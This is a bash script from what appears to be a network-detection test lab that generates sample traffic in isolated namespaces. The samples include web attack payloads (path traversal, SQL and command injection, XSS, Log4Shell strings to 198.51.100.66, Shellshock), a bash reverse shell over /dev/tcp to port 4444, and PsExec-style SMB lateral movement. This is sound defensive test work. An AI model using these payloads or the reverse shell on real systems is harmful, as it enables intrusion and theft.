# shellcheck shell=bash disable=SC2154 # sourced by record-samples.sh after lab.sh
# Clear text, bad certificates, tools that say their name, attacks on web pages, a shell that goes out; and odd but honest URLs.

sample_cleartext_login() {
    begin cleartext_login
    ftp_server
    start desk python3 "$here/scripts/samples/services.py" web 80
    start desk python3 "$here/scripts/samples/services.py" pop3 110
    start desk python3 "$here/scripts/samples/services.py" telnet 23
    sleep 1
    settle_all
    watch
    on client curl -s -o /dev/null ftp://alice:summer2026@10.20.0.20/plan.txt || true
    on client curl -s -o /dev/null -u alice:summer2026 http://10.20.0.20/admin || true
    on client curl -s -o /dev/null -d 'user=alice&password=summer2026' http://10.20.0.20/login || true
    on client curl -s -o /dev/null pop3://alice:summer2026@10.20.0.20/1 || true
    on client sh -c '(sleep 1; echo alice; sleep 1; echo summer2026; sleep 1; echo ls; sleep 1; echo exit; sleep 1) |
        busybox telnet 10.20.0.20' >/dev/null 2>&1 || true
    watched
    expect cleartext_credentials 10.20.0.10 10.20.0.20 "low: FTP, HTTP Basic, a form, POP3 and Telnet, user alice; the secret itself is nowhere in the database"
    origin "Passwords in clear text: FTP, HTTP, POP3, Telnet" <<'TEXT'
alice at 10.20.0.10 logs in to services of 10.20.0.20: vsftpd with curl, HTTP Basic (401 nevertheless) and a form, POP3 with curl,
Telnet with busybox (the web, POP3 and Telnet servers are scripts/samples/services.py). The password is summer2026.
TEXT
}

# tls_server PORT ARGS...: openssl s_server outside, without this system's own minimum of versions and ciphers; it reverses lines.
tls_server() { start stranger env OPENSSL_CONF=/dev/null openssl s_server -quiet -rev -accept "198.51.100.80:$1" "${@:2}"; }

# tls_client PORT NAME ARGS...: one session, one line.
tls_client() {
    on client sh -c "printf 'hello\\nCLOSE\\n' | OPENSSL_CONF=/dev/null timeout 5 openssl s_client -quiet -ign_eof -connect 198.51.100.80:$1 -servername $2 ${*:3}" >/dev/null 2>&1 || true
}

sample_tls_selfsigned_expired() {
    begin tls_selfsigned_expired
    local ca=$work/ca
    mkdir -p "$ca"
    : >"$ca/index"
    echo 1000 >"$ca/serial"
    cat >"$ca/conf" <<CONF
[ca]
default_ca = c
[c]
database = $ca/index
serial = $ca/serial
new_certs_dir = $ca
default_md = sha256
policy = p
copy_extensions = none
unique_subject = no
[p]
organizationName = optional
commonName = supplied
[req]
distinguished_name = d
[d]
CONF
    openssl req -config "$ca/conf" -newkey rsa:2048 -nodes -subj "/O=Laboratory/CN=portal.example.com" -keyout "$ca/key.pem" -out "$ca/req.pem" 2>/dev/null
    # Self-signed, with the dates one asks for.
    openssl ca -config "$ca/conf" -batch -notext -selfsign -keyfile "$ca/key.pem" -in "$ca/req.pem" -out "$ca/expired.pem" -startdate 20200101000000Z -enddate 20210101000000Z 2>/dev/null
    openssl ca -config "$ca/conf" -batch -notext -selfsign -keyfile "$ca/key.pem" -in "$ca/req.pem" -out "$ca/future.pem" -startdate 20400101000000Z -enddate 20410101000000Z 2>/dev/null
    ip -n "$lab-stranger" addr add 198.51.100.80/24 dev eth0
    tls_server 443 -key "$ca/key.pem" -cert "$ca/expired.pem" -tls1_2
    tls_server 8443 -key "$ca/key.pem" -cert "$ca/future.pem" -tls1_2
    tls_server 9443 -key "$ca/key.pem" -cert "$ca/expired.pem" -tls1 -cipher ALL:@SECLEVEL=0
    tls_server 10443 -key "$ca/key.pem" -cert "$ca/expired.pem" -tls1_2 -cipher NULL-SHA256:@SECLEVEL=0
    sleep 1
    settle_all
    watch
    tls_client 443 portal.example.com -tls1_2
    tls_client 443 login.example.org -tls1_2
    tls_client 8443 portal.example.com -tls1_2
    tls_client 9443 portal.example.com -tls1 -cipher ALL:@SECLEVEL=0
    tls_client 10443 portal.example.com -tls1_2 -cipher NULL-SHA256:@SECLEVEL=0
    watched
    ip -n "$lab-stranger" addr del 198.51.100.80/24 dev eth0
    expect tls_certificate 10.20.0.10 198.51.100.80 \
        "low: self-signed; expired since 2021 (443, 9443, 10443), not valid before 2040 (8443), not for login.example.org (443)"
    expect tls_obsolete 10.20.0.10 198.51.100.80 "low: TLS 1.0 (9443), a cipher without encryption (10443)"
    origin "TLS as it should not be: self-signed, expired, too early, too old, without encryption" <<'TEXT'
openssl s_client on 10.20.0.10 talks to four openssl s_server on 198.51.100.80: an expired self-signed certificate (443, once
under another name), one that is not valid yet (8443), TLS 1.0 (9443), and TLS 1.2 with NULL-SHA256 (10443).
TEXT
}

sample_exe_download() {
    begin exe_download
    # The first bytes of a program and nothing that could run.
    { printf 'MZ\220\0\3\0\0\0\4\0\0\0\377\377\0\0\270\0\0\0\0\0\0\0\100\0\0\0'; head -c 32 /dev/zero; printf '\200\0\0\0'; head -c 14 /dev/zero
        printf 'This program cannot be run in DOS mode.\r\n$'; head -c 8 /dev/zero; printf 'PE\0\0'; head -c 4000 /dev/zero; } >"$work/site/files/update.exe"
    cp "$work/site/files/update.exe" "$work/site/files/logo.png"
    settle_all
    watch
    on client curl -4 -s -o /dev/null http://www.example.com/files/update.exe
    on client curl -4 -s -o /dev/null http://www.example.com/files/logo.png
    watched
    expect executable_download 10.20.0.10 203.0.113.50 "low: update.exe, and logo.png whose type says picture and whose first bytes say program. Who counts the server as the culprit swaps the two"
    origin "A program over HTTP, and one that calls itself a picture" <<'TEXT'
curl on 10.20.0.10 fetches /files/update.exe and /files/logo.png from www.example.com (203.0.113.50). Both are the same harmless
bytes: MZ, the DOS notice, PE and zeros. The second is served as image/png.
TEXT
}

sample_agent_tools() {
    begin agent_tools
    local agent
    start desk python3 "$here/scripts/samples/services.py" web 80
    sleep 1
    settle_all
    watch
    for agent in 'sqlmap/1.7.2#stable (https://sqlmap.org)' 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)' \
        'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)' \
        'gobuster/3.6' 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)' 'Mozilla/5.0 zgrab/0.x' \
        'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)' \
        'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)'; do
        on stranger curl -s -o /dev/null -A "$agent" http://10.20.0.20/
    done
    watched
    expect suspicious_user_agent 198.51.100.66 10.20.0.20 "low: sqlmap, Nikto, Nmap, gobuster, masscan, zgrab, WPScan, Nuclei"
    origin "Tools that say their name" <<'TEXT'
curl from outside (198.51.100.66) asks the web server on 10.20.0.20 for its page eight times, each time with the user agent of
another scanner. One harmless request each.
TEXT
}

sample_web_attack() {
    begin web_attack pcap.gz
    local url n
    start desk python3 "$here/scripts/samples/services.py" web 80
    sleep 1
    settle_all
    watch
    for url in '/../../../../etc/passwd' '/files/..%2f..%2f..%2fetc%2fpasswd' '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd' \
        "/item?id=1'%20OR%20'1'='1" '/item?id=1+UNION+SELECT+user,password+FROM+users--' '/item?id=1%27%3BDROP%20TABLE%20users%3B--' '/item?id=1%20AND%20SLEEP(5)' \
        '/ping?host=127.0.0.1;cat%20/etc/passwd' '/ping?host=%7Cid' '/ping?host=$(whoami)' \
        '/search?q=%3Cscript%3Ealert(1)%3C/script%3E' '/index.php?page=php://filter/convert.base64-encode/resource=config' \
        '/?x=${jndi:ldap://198.51.100.66:1389/a}'; do
        on stranger curl -g --path-as-is -s -o /dev/null "http://10.20.0.20$url" || true
    done
    # shellcheck disable=SC2016 # these strings are for the server
    for url in '${jndi:ldap://198.51.100.66:1389/a}' '${${lower:j}ndi:${lower:l}dap://198.51.100.66:1389/b}' '() { :; }; /bin/cat /etc/passwd'; do
        on stranger curl -s -o /dev/null -A "$url" http://10.20.0.20/
        on stranger curl -s -o /dev/null -H "X-Api-Version: $url" http://10.20.0.20/
    done
    # Forced browsing: names that might be there.
    for n in admin.php backup.zip .git/config .env wp-login.php phpmyadmin/ server-status config.bak old/ test/ db.sql; do
        for url in "" a/ b/ c/ d/; do on stranger curl -s -o /dev/null "http://10.20.0.20/$url$n"; done
    done
    watched
    expect web_attack 198.51.100.66 10.20.0.20 "path traversal, SQL injection, command injection, script injection; 55 missing pages in a few seconds"
    expect exploit_attempt 198.51.100.66 10.20.0.20 "Log4Shell in URI and headers, also disguised; Shellshock"
    origin "Attacks on a web server, by their form" <<'TEXT'
curl from outside (198.51.100.66) sends the web server on 10.20.0.20 thirteen URIs with path traversal, SQL, command and script
injection, Log4Shell and Shellshock strings in User-Agent and X-Api-Version, and then asks for 55 paths that might be there (all
404). The server is a small script and does nothing with any of it.
TEXT
}

sample_reverse_shell() {
    begin reverse_shell
    accounts
    settle_all
    watch
    # Whoever waits outside types four commands.
    on stranger sh -c '(sleep 2; echo id; sleep 1; echo ls; sleep 1; echo cat plan.txt; sleep 1; echo exit; sleep 1) | timeout 12 nc -l -p 4444' >/dev/null 2>&1 &
    sleep 0.5
    # shellcheck disable=SC2016 # expanded by the inner shell
    patience=12 on client sh -c 'mount --bind "$0/passwd" /etc/passwd; mount --bind "$0/group" /etc/group; mount --bind "$0/home" /srv; cd /srv/alice
        exec setpriv --reuid 1000 --regid 1000 --clear-groups env -i PATH=/usr/bin HOME=/srv/alice \
            bash --norc --noprofile -c "PS1=\"alice@desk:~\\$ \" exec bash --norc --noprofile -i >& /dev/tcp/198.51.100.66/4444 0>&1"' "$work" >/dev/null 2>&1 || true
    watched
    expect reverse_shell 10.20.0.10 198.51.100.66 "prompt and command output from the inside out, port 4444"
    origin "A shell that goes out" <<'TEXT'
bash -i on 10.20.0.10 connects its input and output to 198.51.100.66:4444, where nc waits; the other end types id, ls, cat
plan.txt and exit. The prompt (alice@desk) and what the commands print cross the wire in clear text.
TEXT
}

sample_odd_ports() {
    begin odd_ports
    start stranger /usr/sbin/sshd -D -e -f /dev/null -o Port=443 -o HostKey="$work/host_key" -o PidFile=none -o UsePAM=no -o StrictModes=no -o AuthorizedKeysFile="$work/authorized_keys" -o UseDNS=no
    start stranger python3 "$here/scripts/samples/services.py" web 53
    start stranger python3 "$here/scripts/samples/services.py" web 22
    sleep 1
    settle_all
    watch
    on client ssh -F none -p 443 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR \
        -o BatchMode=yes -o KexAlgorithms=curve25519-sha256 -i "$work/stranger_key" root@198.51.100.66 true 2>/dev/null || true
    on client curl -s -o /dev/null http://198.51.100.66:53/ || true
    on client curl -s -o /dev/null http://198.51.100.66:22/ || true
    watched
    expect nonstandard_port 10.20.0.10 198.51.100.66 "low: SSH on 443, HTTP on 53, HTTP on 22"
    origin "Protocols on the ports of others" <<'TEXT'
10.20.0.10 talks to 198.51.100.66: ssh to port 443 (the login is refused), and HTTP with curl to ports 53 and 22.
TEXT
}

sample_lateral_smb() {
    begin lateral_smb
    smb_server
    { printf 'MZ\220\0'; head -c 60 /dev/zero; printf 'This program cannot be run in DOS mode.\r\n$'; head -c 2000 /dev/zero; } >"$work/PSEXESVC.exe"
    settle_all
    watch
    # shellcheck disable=SC2016 # the share is called so
    on rogue smbclient '//10.20.0.20/ADMIN$' -s /dev/null -W LAB -U Administrator%summer2026 -c "put $work/PSEXESVC.exe PSEXESVC.exe" >/dev/null 2>&1 || true
    on rogue net rpc service create PSEXESVC PSEXESVC '%SystemRoot%\PSEXESVC.exe' -s /dev/null -W LAB -U Administrator%summer2026 -S 10.20.0.20 >/dev/null 2>&1 || true
    watched
    expect lateral_movement 10.20.0.66 10.20.0.20 "a program is written to ADMIN\$, then a service is created over svcctl"
    origin "A program on ADMIN\$ and a service that would start it" <<'TEXT'
smbclient on 10.20.0.66 logs in to Samba on 10.20.0.20 as Administrator and writes PSEXESVC.exe (harmless: MZ and zeros) to the
share ADMIN$; net rpc service create then asks the service control manager (svcctl) for a service that runs it, as PsExec does.
Samba refuses the service; the requests are all there.
TEXT
}

# --- twins --------------------------------------------------------------------------------------------------

sample_twin_web_odd_urls() {
    begin twin_web_odd_urls
    local url long
    settle_all
    long=$(head -c 900 "$work/site/files/report.bin" | base64 -w 0 | tr '+/' '-_')
    watch
    for url in "/?q=it's%20five%20o'clock" '/?q=100%25%20sure%20%26%20more' '/?title=Select%20your%20union%20from%20the%20list' \
        '/?next=https%3A%2F%2Fwww.example.com%2Ffiles%2F' "/?author=O'Brien;year=2026" \
        '/?path=C%3A%5CUsers%5Calice%5CDocuments' '/files/./items.json' '/files/../index.html' \
        '/?formula=a%3Cb%20and%20c%3Ed' '/?q=where%20to%20drop%20a%20table%20saw' \
        '/?template=Dear%20%24%7Bname%7D' '/?sort=-price,+name&page=2&filter[color]=red' \
        '/?emoji=%F0%9F%98%80&x=%E4%BD%A0' '/?cmd=list&id=17' "/?state=$long" '/?date=2026-11-26T12:00:00%2B01:00&tz=Europe/Berlin' '/?q=--verbose' '/?expr=(1%2B2)*3'; do
        on client curl -4 -g --path-as-is -s -o /dev/null "http://www.example.com$url"
    done
    for url in favicon.ico robots.txt apple-touch-icon.png; do on client curl -4 -s -o /dev/null "http://www.example.com/$url"; done
    watched
    quiet
    origin "Odd URLs, all innocent" <<'TEXT'
curl on 10.20.0.10 asks www.example.com (203.0.113.50) for 21 URLs with apostrophes, percent signs, semicolons, brackets, a
Windows path, words of SQL in ordinary sentences, one step up inside the site, a template's placeholder and a query of 1,200
characters. Three usual files are missing.
TEXT
}

all+=(cleartext_login tls_selfsigned_expired exe_download agent_tools web_attack reverse_shell odd_ports lateral_smb twin_web_odd_urls)
